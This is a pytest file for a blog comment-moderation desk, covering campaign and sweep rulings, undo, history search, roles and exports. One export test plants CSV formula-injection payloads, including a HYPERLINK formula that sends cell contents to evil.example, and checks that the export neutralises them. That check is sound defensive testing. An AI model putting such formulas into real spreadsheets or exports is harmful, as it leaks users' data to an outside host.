"""Campaigns, sweep, history and downloads at the desk, as a browser without script uses them."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from urllib.parse import urlencode

import pytest
import redis
import sqlalchemy as sa
from flask import Flask
from test_desk_frame import everything
from visitors import Visitor
from waves import Planter, wave

from classifier.domain import Action
from classifier.lessons import RulingReason
from service.acts import Actor
from service.desk import sets
from service.downloads import DANGEROUS
from service.exports import record_export
from service.people import get_user
from service.review import write_note
from service.roles import Role
from service.rulings import Wish, rule_many
from service.store import tables_desk
from service.store.accounts import Site
from service.store.tables import comments

Enter = Callable[..., Visitor]
CAMPAIGNS, SWEEP, HISTORY = "/desk/blog/campaigns", "/desk/blog/sweep", "/desk/blog/history"


@pytest.fixture
def planter(app: Flask, site_and_key: tuple[Site, str], redis_url: str, secret: bytes) -> Iterator[Planter]:
    """Puts comments on the site."""
    with redis.Redis.from_url(redis_url) as client:
        yield Planter(app.extensions["sluice"].store, site_and_key[0].id, client, secret)


def an_hour_ago() -> datetime:
    """A moment before anything that a test does."""
    return datetime.now(UTC) - timedelta(hours=1)


def questions(count: int) -> list[str]:
    """Comments that are no campaign."""
    return [f"What about question number {at}?" for at in range(count)]


def links(page: str, part: str) -> list[str]:
    """Where a page leads, of those addresses that have a part."""
    return [html.unescape(each) for each in re.findall(r'href="([^"]+)"', page) if part in each]


def forms(page: str, part: str) -> list[str]:
    """Where a page's forms go, of those addresses that have a part."""
    return [html.unescape(each) for each in re.findall(r'action="([^"]+)"', page) if part in each]


def shown(page: str) -> str:
    """What proves that a set was on a page."""
    return html.unescape(re.search(r'name="shown" value="([^"]*)"', page)[1])


def words(page: str) -> str:
    """What a person reads."""
    return html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page)))


def statuses(planter: Planter) -> list[str]:
    """How all comments stand, in order."""
    with planter.store.read() as connection:
        return list(connection.execute(sa.select(comments.c.status).order_by(comments.c.id)).scalars())


def acts(planter: Planter, verb: str) -> list[sa.Row]:
    """All acts of a kind."""
    query = sa.select(tables_desk.acts).where(tables_desk.acts.c.verb == verb).order_by(tables_desk.acts.c.id)
    with planter.store.read() as connection:
        return list(connection.execute(query))


def by_api(planter: Planter, ids: list[str], action: Action = Action.REJECT, name: str = "Bo") -> None:
    """Rulings that a blog's own page sends."""
    wishes = [Wish(each, 1) for each in ids]
    planter.store.write(
        lambda c: rule_many(
            c,
            planter.site_id,
            wishes,
            action,
            actor=Actor(name, "api"),
            now=datetime.now(UTC),
            reason=RulingReason.OFF_TOPIC,
        )
    )


# --- Campaigns ----------------------------------------------------------------------------------------------------


def test_a_wave_is_cleared_and_taken_back_in_one_act_each(desk: Enter, planter: Planter):
    """From the board over the page with ten to read to the receipt, whose button puts everything back."""
    planter.plant(wave(40), an_hour_ago())
    ada = desk()
    (decide,) = links(ada.get(CAMPAIGNS).text, "choice=spam")
    page = ada.get(decide).text
    assert "40 comments, 9 articles, 1 language" in words(page)
    assert page.count('<article class="said">') == 10
    planter.plant(wave(2, seed=8), datetime.now(UTC))

    (act,) = forms(page, "/act")
    answer = ada.post(act, {"shown": shown(page)})

    assert answer.status_code == 303
    receipt = ada.get(answer.location).text
    assert "40 comments rejected." in receipt
    assert statuses(planter) == ["rejected"] * 40 + ["held"] * 2  # what came later was not shown
    (batch,) = acts(planter, "batch")
    assert (batch.detail["kind"], batch.detail["shown"], batch.reason) == ("campaign", 40, "spam")
    undo = f"{answer.location}/undo"
    assert undo in forms(receipt, "undo")
    assert "40 rulings taken back." in ada.post(undo, follow_redirects=True).text
    assert statuses(planter) == ["held"] * 42
    assert "This was taken back before." in ada.post(undo, follow_redirects=True).text


def test_a_campaign_is_decided_only_from_a_page_that_showed_it(desk: Enter, planter: Planter, monkeypatch):
    """Not without a token, nor with a colleague's, one of another campaign's page, or one from too long ago."""
    planter.plant(wave(5), an_hour_ago())
    ada, eve = desk(), desk(name="Eve")
    (decide,) = links(ada.get(CAMPAIGNS).text, "choice=spam")
    page = ada.get(decide).text
    (act,) = forms(page, "/act")
    other = re.sub(r"campaigns/[0-9a-f-]+/", "campaigns/01890000-0000-7000-8000-000000000000/", act)

    for person, form in ((ada, {}), (ada, {"shown": "x"}), (eve, {"shown": shown(page)})):
        assert "Read it again; nothing was changed." in person.post(act, form, follow_redirects=True).text
    assert ada.post(other, {"shown": shown(page)}).status_code == 400
    monkeypatch.setattr(sets, "MINUTES", -1)
    assert "nothing was changed" in ada.post(act, {"shown": shown(page)}, follow_redirects=True).text
    assert statuses(planter) == ["held"] * 5


def test_a_colleague_who_was_quicker_is_named(desk: Enter, planter: Planter):
    """And their ruling stands, at the act and at its undo."""
    ids = planter.plant(wave(5), an_hour_ago())
    ada = desk()
    (decide,) = links(ada.get(CAMPAIGNS).text, "choice=approve")
    page = ada.get(f"{decide}&of=held&of=rejected").text
    by_api(planter, ids[:1])

    answer = ada.post(forms(page, "/act")[0], {"shown": shown(page)})

    receipt = words(ada.get(answer.location).text)
    assert "4 comments approved." in receipt
    assert "1 left alone: Already rejected by Bo." in receipt


def test_selected_members_are_ruled_on_as_one(desk: Enter, planter: Planter):
    """Those that were ticked; nothing when none was, or when one is not of the campaign."""
    ids = planter.plant(wave(6), an_hour_ago())
    (stranger,) = planter.plant(["Somebody else entirely."], an_hour_ago())
    ada = desk()
    (one,) = [each for each in links(ada.get(CAMPAIGNS).text, "/campaigns/") if "choice" not in each]
    picks = re.findall(r'name="pick" value="([^"]+)"', ada.get(one).text)
    assert sorted(pick.partition(":")[0] for pick in picks) == sorted(ids)

    for wrong in ([], [f"{stranger}:1:"]):
        answer = ada.post(f"{one}/selected", {"choice": "spam", "pick": wrong}, follow_redirects=True)
        assert "nothing was changed" in answer.text
    answer = ada.post(f"{one}/selected", {"choice": "spam", "pick": picks[:2]}, follow_redirects=True)

    assert "2 comments rejected." in answer.text
    assert statuses(planter).count("rejected") == 2
    assert ada.post(f"{one}/selected", {"choice": "spam", "pick": "x"}).status_code == 400


def test_published_members_come_back_into_the_queue(desk: Enter, planter: Planter):
    """Holding is for those that got through."""
    planter.plant(wave(3), an_hour_ago())
    planter.plant(wave(4, seed=2), an_hour_ago(), action=Action.APPROVE, risk=0.2)
    ada = desk()

    (decide,) = links(ada.get(CAMPAIGNS).text, "choice=hold")
    page = ada.get(decide).text
    assert "4 comments" in words(page)
    answer = ada.post(forms(page, "/act")[0], {"shown": shown(page)}, follow_redirects=True)

    assert "4 comments put into the queue." in answer.text
    assert statuses(planter) == ["held"] * 7


def test_a_large_campaign_turns_its_pages(desk: Enter, planter: Planter):
    """Each member is on one of them."""
    ids = planter.plant(wave(70), an_hour_ago())
    ada = desk(Role.VIEWER)
    address: str | None = links(ada.get(CAMPAIGNS).text, "/campaigns/")[0]
    seen = 0
    while address:
        page = ada.get(address).text
        seen += page.count('<article class="said">')
        assert 'name="pick"' not in page  # a viewer only looks
        address = next(iter(links(page, "after=")), None)
    assert seen == len(ids)


# --- Sweep --------------------------------------------------------------------------------------------------------


def test_a_range_is_ruled_on_as_it_was_shown(desk: Enter, planter: Planter):
    """With the filters of the queue's page; what came later or lies outside stays."""
    planter.plant(questions(4), an_hour_ago(), risk=0.2)
    planter.plant(questions(2), an_hour_ago(), risk=0.2, code="links.new_domain")
    planter.plant(questions(2), an_hour_ago(), risk=0.5)
    ada = desk()

    page = ada.get(f"{SWEEP}?risk_from=0.1&risk_to=0.3&reason=links.new_domain").text
    assert "2 comments, 2 articles" in words(page)
    page = ada.get(f"{SWEEP}?risk_from=0.1&risk_to=0.3").text
    planter.plant(questions(1), datetime.now(UTC), risk=0.2)
    answer = ada.post(f"{SWEEP}/act", {"shown": shown(page), "choice": "approve"}, follow_redirects=True)

    assert "6 comments approved." in answer.text
    assert statuses(planter).count("approved") == 6
    (batch,) = acts(planter, "batch")
    assert batch.detail["range"] == {"risk_from": "0.1", "risk_to": "0.3"}


def test_the_queue_leads_to_a_sweep_of_what_it_shows(desk: Enter, planter: Planter):
    """Its filters come along, in its own words for them."""
    planter.plant(questions(4), an_hour_ago(), risk=0.2)
    planter.plant(questions(3), an_hour_ago(), risk=0.95)
    ada = desk()

    (address,) = links(ada.get("/desk/blog/queue?view=fine&risk=0-40&sort=oldest").text, "/sweep?")
    page = ada.get(address).text

    assert "4 wait, by risk" in words(page)
    assert "4 comments" in words(page)


def test_a_filter_that_says_nothing_sweeps_nothing(desk: Enter, planter: Planter):
    """It would be everything else."""
    planter.plant(questions(3), an_hour_ago())

    page = desk().get(f"{SWEEP}?risk_from=0.1&view=nowhere").text

    assert "view is not something to filter by. Nothing is chosen." in words(page)
    assert 'name="shown"' not in page


def test_a_batch_keeps_no_name_of_a_reader(desk: Enter, planter: Planter):
    """It would outlive the erasure of what the reader wrote."""
    planter.plant(questions(3), an_hour_ago(), name="Wilhelmina")
    ada = desk()

    page = ada.get(f"{SWEEP}?risk_from=0&author=wilhelmina&q=question").text
    ada.post(f"{SWEEP}/act", {"shown": shown(page), "choice": "spam"})

    (batch,) = acts(planter, "batch")
    assert batch.detail["range"] == {"risk_from": "0.0", "author": True, "q": True}


# --- History ------------------------------------------------------------------------------------------------------


def test_history_covers_every_way(app: Flask, client, headers, desk: Enter, planter: Planter):
    """What the API did stands beside what the desk did, and an erasure, with its evidence."""
    ids = planter.plant(questions(3), an_hour_ago())
    said = {"action": "reject", "revision": 1, "moderator": "Bo"}
    assert client.post(f"/v1/comments/{ids[0]}/rulings", json=said, headers=headers).status_code == 200
    assert client.delete(f"/v1/comments/{ids[1]}", headers=headers).status_code == 204
    toml = {"Content-Type": "application/toml"}
    policy = client.put("/v1/policy", data="[heads.spam]\nhold_at = 0.4", headers={**headers, **toml})
    assert policy.status_code == 200
    ada = desk()

    page = ada.get(HISTORY).text

    for sentence in ("Bo rejected a comment", "api erased a comment", "api changed the policy (site, version 1)"):
        assert sentence in words(page)
    act = ada.get(links(ada.get(f"{HISTORY}?q=by:bo").text, "/history/0")[0]).text
    assert "It reads like an advertisement." in act
    assert "by the API" in act


def test_one_search_is_reversed_with_a_reason(desk: Enter, planter: Planter):
    """The exact set first; without a reason nothing happens, and what is kept names no reader."""
    ids = planter.plant(questions(5), an_hour_ago(), name="Wilhelmina")
    by_api(planter, ids[:4], name="Wrong Wim")
    by_api(planter, ids[3:4], Action.APPROVE, name="Bo")
    ada = desk()
    line = 'by:"wrong wim" author:wilhelmina'
    found = ada.get(HISTORY, query_string={"q": line}).text
    (address,) = links(found, "/reverse")

    page = ada.get(address).text
    assert "3 comments" in words(page)
    assert "1 more ruling fits but was overruled since; it stays as it is." in words(page)
    assert "Say why" in ada.post(f"{HISTORY}/reverse", {"shown": shown(page)}, follow_redirects=True).text
    assert statuses(planter).count("rejected") == 3
    by_api(planter, ids[4:], name="Wrong Wim")  # after the set was shown
    answer = ada.post(f"{HISTORY}/reverse", {"shown": shown(page), "why": "A bad  afternoon"}, follow_redirects=True)

    assert "3 rulings taken back." in answer.text
    assert statuses(planter) == ["held", "held", "held", "approved", "rejected"]
    header = next(each for each in acts(planter, "undo") if each.comment_id is None)
    assert header.detail["why"] == "A bad afternoon"
    assert header.detail["search"]["author"] is True
    assert "ilhelmina" not in json.dumps(header.detail)


@pytest.mark.parametrize("line", ["", "is:odd", "site:other by:ada", "verb:"])
def test_everything_at_once_is_not_reversed(desk: Enter, planter: Planter, line: str):
    """Nor what cannot be understood, as that would be everything but this."""
    by_api(planter, planter.plant(questions(2), an_hour_ago()))

    page = desk().get(f"{HISTORY}/reverse", query_string={"q": line}).text

    assert "Search for something first" in page
    assert '<button class="main">' not in page


def test_rights_to_take_back(desk: Enter, planter: Planter):
    """One's own with the right to rule, a colleague's with the right to confirm, batches with that to act on many."""
    ids = planter.plant(questions(3), an_hour_ago())
    trainee, viewer, moderator = desk(Role.TRAINEE), desk(Role.VIEWER), desk(Role.MODERATOR)
    by_api(planter, ids[:1])
    (ruling,) = acts(planter, "reject")
    undo = f"{HISTORY}/{ruling.id}/undo"

    for person, missing in ((viewer, "decide about comments"), (trainee, "give second looks")):
        assert undo not in person.get(HISTORY).text
        answer = person.post(undo)
        assert answer.status_code == 403
        assert f"Your role does not let you {missing}" in words(answer.text)
        for path in (SWEEP, f"{HISTORY}/reverse?q=by:bo"):
            assert person.get(path).status_code == 403
        assert person.post(f"{HISTORY}/export").status_code == 403
        assert person.post("/desk/blog/export").status_code == 403
    assert statuses(planter) == ["rejected", "held", "held"]
    assert moderator.post(undo).status_code == 303
    assert statuses(planter) == ["held"] * 3


def test_one_takes_back_ones_own_as_a_trainee(app: Flask, desk: Enter, planter: Planter):
    """A note, for instance; the button is there for that alone."""
    (comment,) = planter.plant(questions(1), an_hour_ago())
    trainee = desk(Role.TRAINEE, name="Tam")
    with planter.store.read() as connection:
        me = Actor("Tam", "desk", get_user(connection, "Tam").id)
    now = datetime.now(UTC)
    planter.store.write(lambda c: write_note(c, planter.site_id, comment, "Hm.", actor=me, now=now))

    (undo,) = forms(trainee.get(HISTORY).text, "/undo")
    answer = trainee.post(undo, follow_redirects=True)

    assert "Taken back: everything is as it was before." in answer.text


def test_another_site_is_a_word_away_for_those_who_see_it(desk: Enter, make_site):
    """Others are told that they see none of that name."""
    ada, everywhere = desk(), desk(Role.VIEWER, everywhere=True, name="Eve")
    make_site("other")

    assert "You see no site “other”." in ada.get(f"{HISTORY}?q=site:other").text
    answer = everywhere.get(f"{HISTORY}?q=site:other+by:bo")
    assert (answer.status_code, answer.location) == (303, "/desk/other/history?q=by:bo")


def test_acts_of_another_site_do_not_exist(desk: Enter, make_site, planter: Planter):
    """Whoever guesses an id finds nothing, and can take nothing back."""
    by_api(planter, planter.plant(questions(1), an_hour_ago()))
    (ruling,) = acts(planter, "reject")
    make_site("other")
    ada = desk(Role.MODERATOR, everywhere=True)

    assert ada.get(f"/desk/other/history/{ruling.id}").status_code == 404
    assert ada.post(f"/desk/other/history/{ruling.id}/undo").status_code == 404
    assert statuses(planter) == ["rejected"]


def test_looking_changes_nothing(app: Flask, desk: Enter, planter: Planter):
    """Every page of these, opened by somebody who may do everything."""
    planter.plant(wave(5), an_hour_ago())
    by_api(planter, planter.plant(questions(2), an_hour_ago()))
    admin = desk(Role.ADMIN)
    before = everything(app)
    seen: set[str] = set()
    waiting = [CAMPAIGNS, SWEEP, f"{SWEEP}?risk_from=0&risk_to=1", HISTORY, f"{HISTORY}?q=by:bo"]
    while waiting:
        address = waiting.pop()
        if address not in seen and address.startswith(("/desk/blog/campaigns", "/desk/blog/sweep", "/desk/blog/hist")):
            seen.add(address)
            answer = admin.get(address)
            assert answer.status_code == 200, address
            waiting += links(answer.text, "/desk/blog/")

    assert len(seen) >= 12
    assert everything(app) == before


# --- Downloads ----------------------------------------------------------------------------------------------------


def test_a_download_of_the_history_is_safe_and_on_record(desk: Enter, planter: Planter):
    """No cell begins as a formula does, nobody's address is in it, and who took it with which search is kept."""
    ids = planter.plant(
        ['=HYPERLINK("http://evil.example?"&A1)', "+1+1", "plain"],
        an_hour_ago(),
        name="@SUM(1)",
        email="jo@secret.example",
    )
    by_api(planter, ids, name="-2+3")
    ada = desk()

    answer = ada.post(f"{HISTORY}/export", {"q": "verb:reject", "format": "csv"})

    assert answer.headers["Content-Disposition"].startswith('attachment; filename="history-blog-')
    assert answer.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [row["text"] for row in reversed(rows)] == ['\'=HYPERLINK("http://evil.example?"&A1)', "'+1+1", "plain"]
    assert not any(value.startswith(DANGEROUS) for row in rows for value in row.values())
    assert "secret.example" not in answer.text
    assert "192.0.2.7" not in answer.text
    (act,) = acts(planter, "export")
    assert act.detail == {"what": "history", "format": "csv", "search": {"verb": "reject"}}


def test_a_reason_is_found_by_what_the_desk_calls_it(desk: Enter, planter: Planter):
    """A field that there is not is said, with those that there are."""
    by_api(planter, planter.plant(questions(1), an_hour_ago()))
    visitor = desk(Role.ADMIN)

    def found(line: str) -> str:
        return words(visitor.get(f"{HISTORY}?{urlencode({'q': line})}").text)

    assert "What about question number 0?" in found('reason:"off topic"')
    assert "Nothing was found." in found("reason:abuse")
    page = found("foo:bar")
    assert "There is no field “foo:”" in page
    assert "author, domain" in page


def test_an_export_is_said_in_words(desk: Enter, planter: Planter):
    """Whatever way it went, and without a gap where the desk would name a format."""
    planter.store.write(
        lambda c: record_export(c, planter.site_id, "site", comments=3, made_by="cli:ann", now=datetime.now(UTC))
    )
    visitor = desk(Role.ADMIN)
    visitor.post(f"{HISTORY}/export", {"q": "", "format": "csv"})

    page = words(visitor.get(HISTORY).text)

    assert "exported everything that the site owns (3 comments)" in page
    assert "downloaded the history as a table (CSV)" in page


def test_a_download_of_the_queue_fits_its_filters(desk: Enter, planter: Planter):
    """All pages of it, as JSON."""
    planter.plant(questions(510), an_hour_ago(), risk=0.2)
    planter.plant(questions(3), an_hour_ago(), risk=0.95)
    ada = desk()

    answer = ada.post("/desk/blog/export", {"view": "fine", "format": "json"})

    items = json.loads(answer.text)["items"]
    assert len(items) == 510
    assert {item["lane"] for item in items} == {"fine"}
    assert items[0]["machine_reasons"] == ["model.spam"]
    assert ada.post("/desk/blog/export", {"view": "nowhere"}).status_code == 400
    assert ada.post("/desk/blog/export", {"format": "xls"}).status_code == 400
    assert [act.detail["filters"] for act in acts(planter, "export")] == [{"view": "fine"}]
